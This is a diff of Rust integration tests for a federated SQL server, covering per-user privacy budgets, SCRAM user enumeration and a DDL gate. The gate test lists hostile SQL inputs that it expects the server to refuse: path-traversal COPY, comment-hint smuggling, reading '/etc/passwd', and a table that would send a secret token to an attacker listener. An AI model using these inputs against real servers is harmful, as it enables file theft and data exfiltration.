@@ -586,18 +586,179 @@ async fn without_users_only_loopback() {
     assert!(e.to_string().contains("loopback"), "{e}");
 }
 
+/// A users file with these users and passwords (the password is the name).
+fn users_of(dir: &std::path::Path, names: &[&str]) -> Arc<auth::Users> {
+    let file = dir.join("users.toml");
+    for name in names {
+        auth::set_password(&file, name, name).unwrap();
+    }
+    Arc::new(auth::Users::load(&file).unwrap())
+}
+
+/// A server over `t` (clients a and b, dp_budget 1) whose ledgers are
+/// kept in `ledgers`, with the users of `users`.
+async fn dp_server(
+    data: &std::path::Path,
+    ledgers: &std::path::Path,
+    users: Arc<auth::Users>,
+) -> Server {
+    let ctx = FedContext::new();
+    ctx.keep_dp_ledgers_in(ledgers).unwrap();
+    ctx.sql(&format!(
+        "CREATE FEDERATED TABLE t STORED AS CSV LOCATION '{}/' OPTIONS ('dp_budget' '1')",
+        data.display()
+    ))
+    .await
+    .unwrap();
+    start(
+        ctx,
+        ServerOptions {
+            listen: "127.0.0.1:0".into(),
+            users: Some(users),
+            ..ServerOptions::default()
+        },
+    )
+    .await
+    .unwrap()
+}
+
 /// Through the endpoint an in-process table's privacy budget is kept per
-/// connection user: one user's spending leaves another's budget whole,
-/// and a user who reconnects finds what they spent.
+/// authenticated user: one user's spending leaves another's budget whole,
+/// a user who reconnects finds what they spent, and so does a user of the
+/// restarted server (the ledgers are files).
 #[tokio::test]
 async fn privacy_budgets_are_kept_per_connection_user() {
     let dir = tempfile::TempDir::new().unwrap();
     std::fs::write(dir.path().join("a.csv"), "x\n1\n2\n3\n").unwrap();
     std::fs::write(dir.path().join("b.csv"), "x\n4\n5\n").unwrap();
+    let ledgers = tempfile::TempDir::new().unwrap();
+    let users = tempfile::TempDir::new().unwrap();
+    let users = users_of(users.path(), &["alice", "bob"]);
+    let server = dp_server(dir.path(), ledgers.path(), Arc::clone(&users)).await;
+    let user = |server: &Server, name: &str| {
+        let mut config = config(server, name);
+        config.password(name);
+        config
+    };
+    let (alice, _) = connect_with_notices(&user(&server, "alice")).await.unwrap();
+    for _ in 0..2 {
+        simple_rows(&alice, "SELECT dp_count(*, 0.4) FROM t").await;
+    }
+    let e = alice
+        .simple_query("SELECT dp_count(*, 0.4) FROM t")
+        .await
+        .unwrap_err();
+    let text = format!("{e:?}");
+    assert!(text.contains("dp_budget"), "{text}");
+    // Bob's budget is his own.
+    let (bob, _) = connect_with_notices(&user(&server, "bob")).await.unwrap();
+    simple_rows(&bob, "SELECT dp_count(*, 0.9) FROM t").await;
+    // Alice again, on a new connection, through the extended protocol.
+    let (alice, _) = connect_with_notices(&user(&server, "alice")).await.unwrap();
+    let e = alice
+        .query("SELECT dp_count(*, 0.3) FROM t", &[])
+        .await
+        .unwrap_err();
+    let text = format!("{e:?}");
+    assert!(text.contains("dp_budget"), "{text}");
+    alice
+        .query("SELECT dp_count(*, 0.2) FROM t", &[])
+        .await
+        .unwrap();
+
+    // A restarted server reads what each user spent.
+    drop((alice, bob, server));
+    let mut files: Vec<String> = std::fs::read_dir(ledgers.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    files.sort();
+    assert_eq!(files, ["t.a.toml", "t.b.toml"]);
+    let server = dp_server(dir.path(), ledgers.path(), users).await;
+    let (alice, _) = connect_with_notices(&user(&server, "alice")).await.unwrap();
+    let e = alice
+        .simple_query("SELECT dp_count(*, 0.1) FROM t")
+        .await
+        .unwrap_err();
+    assert!(format!("{e:?}").contains("dp_budget"), "{e:?}");
+    let (bob, _) = connect_with_notices(&user(&server, "bob")).await.unwrap();
+    let e = bob
+        .simple_query("SELECT dp_count(*, 0.2) FROM t")
+        .await
+        .unwrap_err();
+    assert!(format!("{e:?}").contains("dp_budget"), "{e:?}");
+    simple_rows(&bob, "SELECT dp_count(*, 0.1) FROM t").await;
+}
+
+/// Without --users a connection may call itself anyone, and every name
+/// would bring a fresh budget: a table with a DP budget (or require_dp)
+/// is not served at all.
+#[tokio::test]
+async fn dp_tables_are_not_served_without_users() {
+    let dir = tempfile::TempDir::new().unwrap();
+    std::fs::write(dir.path().join("a.csv"), "x\n1\n2\n3\n").unwrap();
+    for option in ["'dp_budget' '1'", "'require_dp' 'true'"] {
+        let ctx = FedContext::new();
+        ctx.sql(&format!(
+            "CREATE FEDERATED TABLE t STORED AS CSV LOCATION '{}/' OPTIONS ({option})",
+            dir.path().display()
+        ))
+        .await
+        .unwrap();
+        let e = start(
+            ctx,
+            ServerOptions {
+                listen: "127.0.0.1:0".into(),
+                ..ServerOptions::default()
+            },
+        )
+        .await
+        .err()
+        .unwrap_or_else(|| panic!("{option}: served without --users"));
+        let message = e.to_string();
+        assert!(
+            message.contains("`t`") && message.contains("--users"),
+            "{message}"
+        );
+    }
+    // The demo table declares DP domains but no budget: it is served.
+    demo_server(ServerOptions::default()).await;
+}
+
+/// The refusal of a statement by the gate of a server without --allow-ddl.
+fn assert_refused(e: &tokio_postgres::Error, sql: &str, what: &str) {
+    let db = db_error(e);
+    assert_eq!(
+        db.code(),
+        &SqlState::INSUFFICIENT_PRIVILEGE,
+        "{sql}: {db:?}"
+    );
+    assert!(
+        db.message().contains(&format!("`{what}`")) && db.message().contains("--allow-ddl"),
+        "{sql}: {}",
+        db.message()
+    );
+}
+
+/// The review's bypasses of the DDL gate, each refused by a server without
+/// --allow-ddl through the simple and the extended protocol, with nothing
+/// written, read, dropped or contacted.
+#[tokio::test]
+async fn without_allow_ddl_no_statement_writes_defines_or_names_a_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().display().to_string();
+    std::fs::create_dir(dir.path().join("sub")).unwrap();
+    std::fs::write(dir.path().join("secret.txt"), "s3cret-token\n").unwrap();
+    std::fs::write(dir.path().join("shared.csv"), "k,v\n1,2\n").unwrap();
+    // Where a federated table's worker would be: the attacker's listener.
+    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    attacker.set_nonblocking(true).unwrap();
+    let attacker_port = attacker.local_addr().unwrap().port();
+
     let ctx = FedContext::new();
+    fedsql::coordinator::demo::register_demo_with(&ctx, None).unwrap();
     ctx.sql(&format!(
-        "CREATE FEDERATED TABLE t STORED AS CSV LOCATION '{}' OPTIONS ('dp_budget' '1')",
-        dir.path().display()
+        "CREATE EXTERNAL TABLE shared STORED AS CSV LOCATION '{root}/shared.csv' OPTIONS ('format.has_header' 'true')"
     ))
     .await
     .unwrap();
@@ -610,30 +771,289 @@ async fn privacy_budgets_are_kept_per_connection_user() {
     )
     .await
     .unwrap();
-    let user = |name: &str| config(&server, name);
-    let (alice, _) = connect_with_notices(&user("alice")).await.unwrap();
-    for _ in 0..2 {
-        simple_rows(&alice, "SELECT dp_count(*, 0.4) FROM t").await;
+    let client = connect(&server).await;
+    let attacks = [
+        (
+            format!("EXPLAIN ANALYZE COPY (SELECT 1 AS x) TO '{root}/sub/../explain.csv'"),
+            "COPY",
+        ),
+        (
+            format!("EXPLAIN COPY shared TO '{root}/explain2.csv'"),
+            "COPY",
+        ),
+        (
+            format!("/*!COPY*/ (SELECT 1 AS x) TO '{root}/hint.csv'"),
+            "COPY",
+        ),
+        (
+            format!("COPY (SELECT count(*) AS n FROM clinic) TO '{root}/sub/../../escaped.csv'"),
+            "COPY",
+        ),
+        ("COPY shared TO '../fedsql-gate-escaped.csv'".into(), "COPY"),
+        ("DROP TABLE clinic".into(), "DROP TABLE"),
+        ("/*!DROP TABLE*/ shared".into(), "DROP TABLE"),
+        ("INSERT INTO shared VALUES (3, 4)".into(), "INSERT"),
+        (
+            "CREATE EXTERNAL TABLE p STORED AS CSV LOCATION '/etc/passwd'".into(),
+            "CREATE EXTERNAL TABLE",
+        ),
+        (
+            "CREATE VIEW leak AS SELECT * FROM shared".into(),
+            "CREATE VIEW",
+        ),
+        (
+            format!(
+                "CREATE FEDERATED TABLE stolen CLIENTS ('a' = 'grpc://127.0.0.1:{attacker_port}/t') \
+                 OPTIONS ('token_file' '{root}/secret.txt')"
+            ),
+            "CREATE FEDERATED TABLE",
+        ),
+        (
+            format!("CREATE FEDERATED TABLE mine STORED AS CSV LOCATION '{root}/'"),
+            "CREATE FEDERATED TABLE",
+        ),
+        (
+            format!("EXPLAIN ANALYZE FEDERATED CREATE FEDERATED TABLE mine LOCATION '{root}/'"),
+            "CREATE FEDERATED TABLE",
+        ),
+        (
+            "SET datafusion.runtime.temp_directory = '/tmp/elsewhere'".into(),
+            "SET datafusion.runtime.temp_directory",
+        ),
+    ];
+    for (sql, what) in &attacks {
+        let e = client.simple_query(sql).await.unwrap_err();
+        assert_refused(&e, sql, what);
+        // The extended protocol refuses it at Parse (a SET, which runs
+        // when executed, at Execute).
+        let e = match client.prepare(sql).await {
+            Err(e) => e,
+            Ok(statement) if sql.starts_with("SET") => {
+                client.execute(&statement, &[]).await.unwrap_err()
+            }
+            Ok(_) => panic!("{sql}: prepared"),
+        };
+        assert_refused(&e, sql, what);
     }
-    let e = alice
-        .simple_query("SELECT dp_count(*, 0.4) FROM t")
-        .await
-        .unwrap_err();
-    let text = format!("{e:?}");
-    assert!(text.contains("dp_budget"), "{text}");
-    // Bob's budget is his own.
-    let (bob, _) = connect_with_notices(&user("bob")).await.unwrap();
-    simple_rows(&bob, "SELECT dp_count(*, 0.9) FROM t").await;
-    // Alice again, on a new connection, through the extended protocol.
-    let (alice, _) = connect_with_notices(&user("alice")).await.unwrap();
-    let e = alice
-        .query("SELECT dp_count(*, 0.3) FROM t", &[])
-        .await
-        .unwrap_err();
-    let text = format!("{e:?}");
-    assert!(text.contains("dp_budget"), "{text}");
-    alice
-        .query("SELECT dp_count(*, 0.2) FROM t", &[])
+    // A dialect whose parser reads comment hints changes nothing: the gate
+    // reads what that parser reads.
+    client
+        .simple_query("SET datafusion.sql_parser.dialect = 'MySQL'")
         .await
         .unwrap();
+    let sql = format!("/*!COPY*/ (SELECT 1 AS x) TO '{root}/mysql.csv'");
+    assert_refused(&client.simple_query(&sql).await.unwrap_err(), &sql, "COPY");
+    client
+        .simple_query("SET datafusion.sql_parser.dialect = 'generic'")
+        .await
+        .unwrap();
+    // A quote the PostgreSQL tokenizer reads as unbalanced (the old gate
+    // let through what it could not tokenize) is read by the generic
+    // dialect, which DataFusion cannot plan: an error, nothing runs.
+    // A whole statement in a comment hint does not read to its end.
+    for sql in [
+        format!("COPY (SELECT q'[it's]' AS x) TO '{root}/quote.csv'"),
+        format!("/*!COPY (SELECT 1 AS x) TO '{root}/hint2.csv' */"),
+    ] {
+        client.simple_query(&sql).await.unwrap_err();
+        client.prepare(&sql).await.unwrap_err();
+    }
+    // Unbalanced in every reading: a syntax error, never a pass.
+    for sql in ["SELECT q'[abc' FROM clinic", "COPY (SELECT 1) TO 'x.csv"] {
+        let e = client.simple_query(sql).await.unwrap_err();
+        assert_eq!(db_error(&e).code(), &SqlState::SYNTAX_ERROR, "{sql}: {e:?}");
+    }
+
+    // Nothing was written beside the given files, nothing above them.
+    let mut names: Vec<String> = std::fs::read_dir(dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["secret.txt", "shared.csv", "sub"]);
+    assert_eq!(
+        std::fs::read_dir(dir.path().join("sub")).unwrap().count(),
+        0
+    );
+    assert!(!dir.path().parent().unwrap().join("escaped.csv").exists());
+    assert!(!std::path::Path::new("../fedsql-gate-escaped.csv").exists());
+    // Nobody called the attacker's address.
+    assert_eq!(
+        attacker.accept().err().map(|e| e.kind()),
+        Some(std::io::ErrorKind::WouldBlock)
+    );
+    // Nothing was dropped or defined: another connection sees the same tables.
+    let other = connect(&server).await;
+    assert_eq!(
+        simple_rows(&other, "SELECT count(*) FROM shared").await,
+        [[Some("1".to_string())]]
+    );
+    let counts = simple_rows(&other, "SELECT count(*) AS n FROM clinic").await;
+    assert_eq!(counts.len(), 1);
+    for table in ["p", "leak", "stolen", "mine"] {
+        let e = other
+            .simple_query(&format!("SELECT count(*) FROM {table}"))
+            .await
+            .unwrap_err();
+        assert_eq!(db_error(&e).code(), &SqlState::UNDEFINED_TABLE, "{table}");
+    }
+}
+
+/// What analysts and their tools send still runs on a server without
+/// --allow-ddl: queries, EXPLAIN, SHOW, settings, transactions.
+#[tokio::test]
+async fn without_allow_ddl_questions_and_settings_still_run() {
+    let server = demo_server(ServerOptions::default()).await;
+    let client = connect(&server).await;
+    for sql in [
+        "BEGIN",
+        "SET datestyle TO 'ISO, MDY'",
+        "SET extra_float_digits = 3",
+        "SET statement_timeout = '30s'",
+        "SET datafusion.execution.batch_size = 4096",
+        "SET fedsql.dp_epsilon = 0.5",
+        "SELECT count(*) AS n FROM clinic",
+        "EXPLAIN SELECT count(*) FROM clinic",
+        "EXPLAIN FEDERATED SELECT avg(age) FROM clinic",
+        "SHOW TABLES",
+        "SHOW CLIENTS clinic",
+        "SHOW datafusion.execution.batch_size",
+        "COMMIT",
+    ] {
+        client
+            .simple_query(sql)
+            .await
+            .unwrap_or_else(|e| panic!("{sql}: {e:?}"));
+    }
+    assert_eq!(
+        simple_rows(&client, "SHOW datestyle").await,
+        [[Some("ISO, MDY".to_string())]]
+    );
+    let n = client
+        .query_one("SELECT count(*) AS n FROM clinic WHERE age > $1", &[&40i64])
+        .await
+        .unwrap()
+        .get::<_, i64>(0);
+    assert!(n > 0);
+}
+
+/// With --allow-ddl, connections copy, create and drop as before.
+#[tokio::test]
+async fn with_allow_ddl_copy_create_and_drop_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().display().to_string();
+    let server = demo_server(ServerOptions {
+        allow_ddl: true,
+        ..ServerOptions::default()
+    })
+    .await;
+    let client = connect(&server).await;
+    client
+        .simple_query(&format!(
+            "COPY (SELECT count(*) AS n FROM clinic) TO '{root}/n.csv' STORED AS CSV OPTIONS ('format.has_header' 'true')"
+        ))
+        .await
+        .unwrap();
+    let written = std::fs::read_to_string(dir.path().join("n.csv")).unwrap();
+    assert!(written.starts_with("n\n"), "{written}");
+    client
+        .simple_query(&format!(
+            "CREATE EXTERNAL TABLE n STORED AS CSV LOCATION '{root}/n.csv' OPTIONS ('format.has_header' 'true')"
+        ))
+        .await
+        .unwrap();
+    assert_eq!(
+        simple_rows(&client, "SELECT count(*) FROM n").await,
+        [[Some("1".to_string())]]
+    );
+    client.simple_query("DROP TABLE n").await.unwrap();
+    let e = client
+        .simple_query("SELECT count(*) FROM n")
+        .await
+        .unwrap_err();
+    assert_eq!(db_error(&e).code(), &SqlState::UNDEFINED_TABLE);
+}
+
+/// The server's side of a SCRAM exchange up to its server-first message,
+/// spoken by hand (tokio-postgres hides the salt): the salt and iteration
+/// count the server offers `user`.
+fn scram_salt(addr: std::net::SocketAddr, user: &str) -> (String, String) {
+    use std::io::{Read, Write};
+    let mut socket = std::net::TcpStream::connect(addr).unwrap();
+    socket
+        .set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    let mut body = 196608i32.to_be_bytes().to_vec();
+    for part in ["user", user, "database", "fedsql"] {
+        body.extend(part.as_bytes());
+        body.push(0);
+    }
+    body.push(0);
+    let mut startup = ((body.len() + 4) as i32).to_be_bytes().to_vec();
+    startup.extend(body);
+    socket.write_all(&startup).unwrap();
+    let read_message = |socket: &mut std::net::TcpStream| -> (u8, Vec<u8>) {
+        let mut head = [0u8; 5];
+        socket.read_exact(&mut head).unwrap();
+        let len = i32::from_be_bytes(head[1..5].try_into().unwrap()) as usize;
+        let mut body = vec![0u8; len - 4];
+        socket.read_exact(&mut body).unwrap();
+        (head[0], body)
+    };
+    let (kind, body) = read_message(&mut socket);
+    assert_eq!((kind, &body[..4]), (b'R', &10i32.to_be_bytes()[..]), "SASL");
+    let first = b"n,,n=,r=abcdefghijklmnop";
+    let mut body = b"SCRAM-SHA-256\0".to_vec();
+    body.extend((first.len() as i32).to_be_bytes());
+    body.extend(first);
+    let mut message = vec![b'p'];
+    message.extend(((body.len() + 4) as i32).to_be_bytes());
+    message.extend(body);
+    socket.write_all(&message).unwrap();
+    let (kind, body) = read_message(&mut socket);
+    assert_eq!(
+        (kind, &body[..4]),
+        (b'R', &11i32.to_be_bytes()[..]),
+        "SASL continue"
+    );
+    let server_first = String::from_utf8(body[4..].to_vec()).unwrap();
+    let attr = |name: &str| {
+        server_first
+            .split(',')
+            .find_map(|a| a.strip_prefix(name))
+            .unwrap()
+            .to_string()
+    };
+    (attr("s="), attr("i="))
+}
+
+/// An unknown user is offered the same salt on every attempt, shaped like
+/// a known user's, so that the exchange does not tell who exists.
+#[tokio::test]
+async fn scram_offers_unknown_users_a_stable_salt() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = demo_server(ServerOptions {
+        users: Some(users_of(dir.path(), &["alice"])),
+        ..ServerOptions::default()
+    })
+    .await;
+    let addr = server.addr();
+    let salts = tokio::task::spawn_blocking(move || {
+        [
+            scram_salt(addr, "mallory"),
+            scram_salt(addr, "mallory"),
+            scram_salt(addr, "alice"),
+            scram_salt(addr, "alice"),
+            scram_salt(addr, "trudy"),
+        ]
+    })
+    .await
+    .unwrap();
+    let [mallory, again, alice, alice_again, trudy] = salts;
+    assert_eq!(mallory, again);
+    assert_eq!(alice, alice_again);
+    assert_ne!(mallory.0, alice.0);
+    assert_ne!(mallory.0, trudy.0);
+    assert_eq!(mallory.1, alice.1);
+    assert_eq!(mallory.0.len(), alice.0.len());
 }
